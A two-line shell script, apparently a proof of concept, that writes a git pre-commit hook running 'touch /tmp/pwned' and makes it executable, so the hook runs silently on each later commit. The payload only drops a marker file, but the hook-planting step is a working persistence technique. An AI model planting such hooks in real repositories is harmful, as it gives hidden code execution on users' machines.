#!/bin/sh
mkdir -p .git/hooks; printf "#!/bin/sh\ntouch /tmp/pwned\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
